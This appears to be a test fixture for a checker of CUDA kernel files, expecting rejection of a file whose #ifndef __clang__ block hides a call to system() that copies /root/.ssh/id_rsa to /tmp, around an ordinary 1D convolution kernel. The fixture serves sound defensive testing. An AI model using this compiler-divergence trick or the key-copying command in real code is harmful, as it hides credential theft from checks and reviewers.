// expect-exit: 2
// expect-output: hostile_ifndef_clang.cu:15: __clang__ is one of the compilers' own names
// expect-output-lines: 1
//
// hostile_ifndef_clang.cu -- the parser that checks the file is Clang's, the
// compiler that builds it for the CPU executor is g++. A block under
// #ifndef __clang__ is skipped by the one and compiled by the other: launch()
// would declare the C library's system() and call it, in code no check ever
// read. A kernel file is compiled the same way by every compiler: no name
// that tells them apart is allowed, and what the parser skips anyway
// (#if 0) is not compiled.

#include <cuda_runtime.h>

#ifndef __clang__
extern "C" int system(const char* command);
#define STEAL() system("cat /root/.ssh/id_rsa > /tmp/stolen")
#else
#define STEAL()
#endif

__global__ void conv1d_basic(const float* N, const float* M, float* P, int r, int width)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i >= width) return;
    float Pvalue = 0.0f;
    for (int j = -r; j <= r; j++)
        if (i + j >= 0 && i + j < width) Pvalue += M[j + r] * N[i + j];
    P[i] = Pvalue;
}

void launch(const float* N, const float* M, float* P, int r, int width)
{
    STEAL();
    conv1d_basic<<<(width + 63) / 64, 64>>>(N, M, P, r, width);
}
